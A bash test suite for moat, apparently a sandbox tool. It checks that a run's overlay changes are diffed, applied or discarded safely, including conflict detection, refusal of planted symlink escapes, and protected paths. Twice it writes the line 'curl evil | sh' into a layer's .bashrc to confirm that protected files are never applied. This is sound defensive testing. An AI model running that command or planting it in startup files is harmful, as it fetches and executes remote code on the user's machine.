#!/bin/bash
# moat diff, apply and discard: an overlay run's changes read back from its
# kept layer, shown, and copied onto the host workspace (or thrown away).
. "$(dirname "$0")/libtest.sh"
require_sandbox
WS=$(cd "$T/ws" && pwd -P)
export MOAT_DB="$T/review.db"

P="$T/ov.conf"
printf 'include = default\nworkspace = overlay\n' >"$P"

# The host workspace before the run.
cd "$T/ws" || exit 1
echo hello >edit.txt
echo gone >del.txt
echo move >old-name.txt
echo mode >mode.sh
mkdir -p dir/sub && echo a >dir/sub/a && echo b >dir/b
printf 'bin\0ary' >blob.bin
cd - >/dev/null || exit 1
snap() { (cd "$T/ws" && find . -path ./.git -prune -o -printf '%p %y %m %s %l\n' | LC_ALL=C sort; cat edit.txt) ; }
before=$(snap)
passwd_sum=$(md5sum </etc/passwd)

run_moat run -p "$P" -- sh -c '
	echo more >> edit.txt; rm del.txt; mv old-name.txt new-name.txt
	chmod 755 mode.sh; ln -s /etc/passwd link-out; ln -s dir/b link-in
	echo fresh > dir/sub/new.txt; rm -rf dir/b; mkdir -p added/deep
	echo deep > added/deep/f; printf "bin\0ery" > blob.bin; echo $MOAT_RUN_ID'
is "the run worked" "$rc" 0
rid=$out
is "the host is unchanged by the run" "$(snap)" "$before"
check "the layer holds moat's placeholders (so diff must skip them)" \
	test -e "$XDG_STATE_HOME/moat/runs/$rid/upper/.bashrc"

run_moat diff 1 --name-only
is "diff --name-only lists exactly the changes, no placeholder" "$out" "added
added/deep
added/deep/f
blob.bin
del.txt
dir/b
dir/sub/new.txt
edit.txt
link-in
link-out
mode.sh
new-name.txt
old-name.txt"

run_moat diff "${rid:0:12}"
is "diff by run id prefix: exit 0" "$rc" 0
like "diff: the summary counts the changes" "$out" "^run 1 \\($rid\\) in $WS: 13 changes"
like "diff: a modification with its sizes" "$out" "modified  edit.txt  6 B -> 11 B"
like "diff: a deletion" "$out" "deleted   del.txt  5 B"
like "diff: a rename is a deletion and an addition" "$out" "added     new-name.txt"
like "diff: a mode change" "$out" "mode      mode.sh  0644 -> 0755"
like "diff: a symlink with its target" "$out" "symlink   link-out -> /etc/passwd"
like "diff: an added directory" "$out" "added     added/deep/"
like "diff: a unified diff of a text file" "$out" "$(printf -- '--- a/edit.txt\n\\+\\+\\+ b/edit.txt\n@@ -1 \\+1,2 @@\n hello\n\\+more')"
like "diff: a binary file is named, not dumped" "$out" "Binary file blob.bin differs"
unlike "diff: no colour in a pipe" "$out" $'\033'
unlike "diff: no placeholder" "$out" "bashrc|\\.claude|npmrc"

run_moat diff 1 --stat
like "diff --stat: lines added and removed" "$out" "modified  edit.txt \\| \\+1 -0"
run_moat diff --json 1 edit.txt
like "diff --json: one object per change" "$out" '"path": "edit.txt", "kind": "modified", "type": "file", "old_mode": "0644", "old_size": 6, "new_mode": "0644", "new_size": 11'
is "diff --json: only the path filtered" "$(printf '%s\n' "$out" | grep -c '"path"')" 1
run_moat diff 1 'dir/*'
like "diff: a glob filter" "$out" ": 2 changes"
unlike "diff: a glob filter leaves out the rest" "$out" "edit.txt"
if command -v script >/dev/null; then
	script -qec "cd '$T/ws' && MOAT_DB='$MOAT_DB' '$MOAT' diff 1 edit.txt" /dev/null >"$T/tty.out" 2>&1
	like "diff: coloured on a terminal" "$(cat "$T/tty.out")" $'\033\\[32m\\+more'
else
	skip "diff on a terminal: no script(1) here"
fi
run_moat diff 99
is "diff of an unknown run: 125" "$rc" 125
like "diff of an unknown run says what to give" "$err" 'no run "99".*moat audit list'
run_moat diff
like "diff without an ID says so" "$err" "which run"

# A conflicting host edit: nothing applied, the path named, the edit kept.
echo "mine" >"$T/ws/edit.txt"
run_moat apply 1
is "apply with a conflict: 125" "$rc" 125
like "apply names the conflicting path" "$err" "changed in $WS since run 1 started.*
  edit.txt"
is "the host edit is not overwritten" "$(cat "$T/ws/edit.txt")" "mine"
check "nothing else was applied" test -e "$T/ws/del.txt"
run_moat apply 1 del.txt new-name.txt old-name.txt
is "the other paths apply by name" "$rc" 0
check "a deletion applied" test ! -e "$T/ws/del.txt"
is "a rename applied" "$(cat "$T/ws/new-name.txt"; test -e "$T/ws/old-name.txt" || echo no-old)" "move
no-old"
is "the conflicting file is still mine" "$(cat "$T/ws/edit.txt")" "mine"

# Undo the conflict: the host file as the run saw it (a new inode after the
# run started still counts as a change, so move it aside and apply it by hand).
rm "$T/ws/edit.txt"
run_moat apply 1 edit.txt
is "a file the host removed since the run: applied as added" "$rc $(cat "$T/ws/edit.txt")" "0 hello
more"

# A directory of the workspace swapped for a symlink that leads out: the
# apply does not follow it.
mkdir -p "$T/outside"
mv "$T/ws/dir/sub" "$T/ws/dir/sub.real"
ln -s "$T/outside" "$T/ws/dir/sub"
run_moat apply 1 dir/sub/new.txt
is "apply through a planted symlink: 125" "$rc" 125
like "it says a link is on the way" "$err" "dir/sub: a symbolic link"
check "nothing was written outside the workspace" test -z "$(ls -A "$T/outside")"
rm "$T/ws/dir/sub" && mv "$T/ws/dir/sub.real" "$T/ws/dir/sub"

run_moat apply 1
is "the rest applies" "$rc" 0
like "apply says what it did" "$out" "run 1: [0-9]+ changes applied to $WS"
is "a modified file matches the layer" "$(cat "$T/ws/edit.txt")" "hello
more"
is "a mode is kept" "$(stat -c %a "$T/ws/mode.sh")" 755
is "a symlink stays a symlink" "$(readlink "$T/ws/link-out")" /etc/passwd
is "its target is untouched" "$(md5sum </etc/passwd)" "$passwd_sum"
is "a relative symlink" "$(readlink "$T/ws/link-in")" dir/b
check "a deleted file in a kept directory is gone" test ! -e "$T/ws/dir/b"
is "a new file in an existing directory" "$(cat "$T/ws/dir/sub/new.txt")" fresh
is "a new tree" "$(cat "$T/ws/added/deep/f")" deep
is "binary content" "$(od -c "$T/ws/blob.bin" | head -1)" "$(printf 'bin\0ery' | od -c | head -1)"
check "no placeholder reached the host" test ! -e "$T/ws/.bashrc" -a ! -e "$T/ws/.claude"
run_moat diff 1 --name-only
is "after the apply the layer shows no change" "$out" ""

# The apply is recorded in the audit log, chained like any run.
n=$(python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); print(c.execute("SELECT count(*) FROM events e JOIN runs r ON r.id = e.run WHERE r.command LIKE ? AND e.kind = ?", ("moat apply " + sys.argv[2] + "%", "file")).fetchone()[0])' "$MOAT_DB" "$rid")
check "each applied path is an event of the apply's row ($n)" test "$n" -ge 10
run_moat audit verify
is "the chain still verifies" "$rc" 0

# Protected paths: never written by an apply, even when the layer holds one.
UP="$XDG_STATE_HOME/moat/runs/$rid/upper"
echo 'curl evil | sh' >"$UP/.bashrc"
mkdir -p "$UP/tools" && echo hook >"$UP/tools/hook.sh"
printf 'protect = tools/\n' >>"$P"
run_moat diff 1
like "diff marks a protected path" "$out" "added     .bashrc  15 B  \\(protected: never applied\\)"
run_moat apply 1 .bashrc tools
is "apply of only protected paths: nothing to apply" "$rc $out" "0 run 1: nothing to apply (only protected paths)"
like "and it names them" "$err" "not applied \\(protected\\)  .bashrc"
echo fine >"$UP/ok.txt"
run_moat apply 1
is "apply of protected and other paths: the others only" "$rc $(cat "$T/ws/ok.txt")" "0 fine"
check "the protected file was not written" test ! -e "$T/ws/.bashrc"
check "a path the profile now protects was not written" test ! -e "$T/ws/tools"

# discard removes the layer; then there is nothing to review.
run_moat discard 1
is "discard: 0" "$rc $out" "0 run 1: layer discarded"
check "the layer is gone" test ! -e "$XDG_STATE_HOME/moat/runs/$rid"
run_moat diff 1
like "diff after discard says why" "$err" "kept no layer.*discarded"
run_moat discard 1
is "discard twice: 125" "$rc" 125

# A bind run kept no layer.
run_moat run -p default -- sh -c 'echo $MOAT_RUN_ID'
run_moat diff "$out"
like "a bind run has no layer to review" "$err" "did not run with workspace = overlay"

# A chain of three runs with --on: each sees what the one before left, the
# host sees nothing, and one review of the last covers them all.
mkdir -p "$T/ws2" && echo base >"$T/ws2/f.txt" && echo keep >"$T/ws2/k.txt"
WS2=$(cd "$T/ws2" && pwd -P)
on() { # on ARGS...: moat run in ws2; sets out, err, rc
	(cd "$T/ws2" && "$MOAT" run "$@") >"$T/on.out" 2>"$T/on.err" </dev/null
	rc=$?; out=$(cat "$T/on.out"); err=$(cat "$T/on.err")
}
on --review -- sh -c 'echo one >> f.txt; echo a > a.txt; echo $MOAT_RUN_ID >&2'
r1=$err
like "run --review without a terminal: the summary" "$out" "added     a.txt  2 B"
like "and it says how to apply" "$out" "Nothing applied.*moat apply"
on --on "$r1" -- sh -c 'cat f.txt a.txt; echo two >> f.txt; rm a.txt k.txt; echo b > b.txt; echo $MOAT_RUN_ID >&2'
r2=$err
is "the second run sees the first's changes" "$out" "base
one
a"
(cd "$T" && "$MOAT" run --on "$r2" -- sh -c 'cat f.txt; ls; echo three >> f.txt; echo c > c.txt; echo $MOAT_RUN_ID >&2') >"$T/on.out" 2>"$T/on.err"
r3=$(cat "$T/on.err")
is "the third (from another directory: --on names the workspace) sees both" "$(cat "$T/on.out")" "base
one
two
b.txt
f.txt"
is "the host saw none of it" "$(cd "$T/ws2" && ls && cat f.txt)" "f.txt
k.txt
base"
run_moat diff "$r3" --name-only
is "diff of the last run covers the chain" "$out" "b.txt
c.txt
f.txt
k.txt"
run_moat apply "$r3"
is "apply of the chain" "$rc $(cd "$T/ws2" && ls && cat f.txt)" "0 b.txt
c.txt
f.txt
base
one
two
three"
on --on nosuchrun -- true
like "--on an unknown run: named" "$err" "--on nosuchrun: no run"
on -w "$T/ws" --on "$r1" -- true
like "--on with another workspace: refused" "$err" "worked in $WS2, not in"
run_moat discard "$r1"
on --on "$r3" -- true
like "--on a chain with a discarded layer: refused" "$err" "kept no layer"

# Pruning: a size cap removes the oldest layers, but not one a kept layer
# stands on; --before removes those kept since before a date.
on --review -- sh -c 'head -c 200000 /dev/zero > big; echo $MOAT_RUN_ID >&2'
p1=$(printf '%s\n' "$err" | tail -1)
on --on "$p1" -- sh -c 'echo small > s; echo $MOAT_RUN_ID >&2'
p2=$(printf '%s\n' "$err" | tail -1)
sleep 1.1
on --review -- sh -c 'echo newest > n; echo $MOAT_RUN_ID >&2'
p3=$(printf '%s\n' "$err" | tail -1)
kept() { ls "$XDG_STATE_HOME/moat/runs" | sort | tr '\n' ' '; }
before_prune=$(kept)
run_moat audit prune --layers-max 100M
like "prune under the cap removes nothing" "$out" "removed 0 kept overlay layers"
is "every layer is still there" "$(kept)" "$before_prune"
run_moat audit prune --layers-max 100K
like "prune to a cap: says what it removed" "$out" "removed [1-9][0-9]* kept overlay layers"
check "the newest layer stays" test -d "$XDG_STATE_HOME/moat/runs/$p3/upper"
check "the big layer's chain is gone, child and parent" test ! -e "$XDG_STATE_HOME/moat/runs/$p1" -a ! -e "$XDG_STATE_HOME/moat/runs/$p2"
run_moat audit prune --before "$(date -u -d '+1 day' '+%Y-%m-%d')"
like "prune --before a date after every layer removes the rest" "$out" "removed 1 kept overlay layers"
is "no layer is left" "$(kept)" ""
run_moat audit prune --layers-max lots
like "a bad size is named" "$err" "--layers-max needs a size"

# An overlay session's layer: applied while the session runs, with the
# checks of a run's apply, and more than once; discarded once it ended.
mkdir -p "$T/ws5/sub" "$T/outside5" && cd "$T/ws5" || exit 1
echo orig >a.txt; echo gone >gone.txt; echo keep >keep.txt; echo m >mode.sh
echo s >sub/f; mkdir -p olddir/in && echo x >olddir/in/x
cd - >/dev/null || exit 1
WS5=$(cd "$T/ws5" && pwd -P)
s5() { (cd "$T/ws5" && "$MOAT" "$@") >"$T/s5.out" 2>"$T/s5.err" </dev/null
	rc=$?; out=$(cat "$T/s5.out"); err=$(cat "$T/s5.err"); }
s5 session new -p "$P" --name rev5
S5=${out%% *}
is "an overlay session starts" "$rc" 0
s5 session exec rev5 -- sh -c 'echo more >> a.txt; rm gone.txt; chmod 755 mode.sh
	echo new > new.txt; ln -s /etc/passwd out-link; echo s2 >> keep.txt
	echo s2 >> sub/f; rm -r olddir'
is "its command changed the layer" "$rc" 0
echo mine >"$T/ws5/keep.txt"
s5 apply rev5
is "apply SESSION with a host edit since it started: 125" "$rc" 125
like "the conflicting path is named" "$err" "changed in $WS5 since session $S5 started.*
  keep.txt"
is "nothing was applied" "$(cat "$T/ws5/a.txt" "$T/ws5/keep.txt"; test -e "$T/ws5/gone.txt" && echo gone-there)" "orig
mine
gone-there"
mv "$T/ws5/sub" "$T/ws5/sub.real" && ln -s "$T/outside5" "$T/ws5/sub"
s5 apply "$S5" sub/f
is "apply SESSION through a planted symlink: 125" "$rc" 125
like "it says a link is on the way" "$err" "sub: a symbolic link"
check "nothing was written outside the workspace" test -z "$(ls -A "$T/outside5")"
rm "$T/ws5/sub" && mv "$T/ws5/sub.real" "$T/ws5/sub"
UP5="$XDG_STATE_HOME/moat/runs/$(cd "$T/ws5" && "$MOAT" diff --json rev5 | sed -n 's/.*"run_id": "\([^"]*\)".*/\1/p')/upper"
echo 'curl evil | sh' >"$UP5/.bashrc"
s5 apply rev5 a.txt gone.txt mode.sh new.txt out-link olddir sub .bashrc
is "apply SESSION PATH... by name (the session's name)" "$rc" 0
like "it says what it applied" "$out" "session $S5: 7 changes applied to $WS5"
like "a protected path is not applied" "$err" "not applied \\(protected\\)  .bashrc"
check "and not written" test ! -e "$T/ws5/.bashrc"
is "modified, deleted and added files match the layer" \
    "$(cat "$T/ws5/a.txt" "$T/ws5/new.txt" "$T/ws5/sub/f"; test -e "$T/ws5/gone.txt" || echo no-gone; test -e "$T/ws5/olddir" || echo no-olddir)" "orig
more
new
s
s2
no-gone
no-olddir"
is "a mode is kept, a symlink stays one" "$(stat -c %a "$T/ws5/mode.sh") $(readlink "$T/ws5/out-link")" "755 /etc/passwd"
is "the conflicting file is still mine" "$(cat "$T/ws5/keep.txt")" mine
s5 session exec rev5 -- sh -c 'cat a.txt; echo again >> a.txt'
is "the session goes on, on its layer" "$out" "orig
more"
s5 apply rev5 a.txt
is "a path applied before and changed again in the session: no conflict with moat's own apply" "$rc $(cat "$T/ws5/a.txt")" "0 orig
more
again"
sleep 0.01; echo host >>"$T/ws5/a.txt"
s5 session exec rev5 -- sh -c 'echo third >> a.txt'
s5 apply rev5 a.txt
is "but a host edit after that apply is a conflict again" "$rc $(tail -1 "$T/ws5/a.txt")" "125 host"
s5 audit list --session "$S5"
like "each apply is a row of the session in the audit log" "$out" "moat apply $S5 a.txt gone.txt"
n=$(python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); print(c.execute("SELECT count(*) FROM events e JOIN runs r ON r.id = e.run WHERE r.session = ? AND r.command LIKE ? AND e.kind = ?", (sys.argv[2], "moat apply %", "file")).fetchone()[0])' "$MOAT_DB" "$S5")
is "with a file event per applied path" "$n" 8
s5 discard rev5
is "discard of a running session: 125" "$rc" 125
like "it says to end the session first" "$err" "session $S5 is running on its layer; end it first \\(moat session kill $S5\\)"
check "its layer is still there" test -d "$UP5"
s5 audit prune --layers-max 1K
check "a prune to a cap leaves a running session's layer" test -d "$UP5"
s5 session kill rev5
s5 diff rev5 --name-only
is "an ended session's layer is reviewed by its name (the protected path stays)" "$rc $out" "0 .bashrc
a.txt
keep.txt"
s5 discard rev5
is "discard of an ended session" "$rc $out" "0 session $S5: layer discarded"
check "its layer is gone" test ! -e "$UP5"
s5 diff "$S5"
like "then there is nothing to review, and moat says so" "$err" "no session $S5"

# --review on a terminal: a question per path.
if command -v python3 >/dev/null; then
	mkdir -p "$T/ws3" && echo a >"$T/ws3/a.txt"
	# Each answer is typed once its question is up (moat drops earlier keys).
	(cd "$T/ws3" && python3 "$MOAT_SRCDIR/tests/e2e/ttydrive.py" --out "$T/tty.out" \
	    'wait:a\.txt: apply' 'send:d\n' 'wait:\+more.*a\.txt: apply' 'send:y\n' \
	    'wait:b\.txt: apply' 'send:n\n' \
	    -- "$MOAT" run --review -- sh -c 'echo more >> a.txt; echo new > b.txt') >/dev/null 2>"$T/tty.err"
	[ -s "$T/tty.err" ] && diag "$(cat "$T/tty.err")"
	tout=$(tr -d '\r' <"$T/tty.out")
	like "run --review asks per path" "$tout" "modified a.txt: apply\? \[y\]es \[n\]o \[d\]iff \[a\]ll \[q\]uit"
	like "d shows the diff" "$tout" "\+more"
	is "y applied the first, n left the second" "$(cat "$T/ws3/a.txt"; test -e "$T/ws3/b.txt" || echo no-b)" "a
more
no-b"
else
	skip "run --review on a terminal: no python3 for the terminal driver"
fi

done_testing
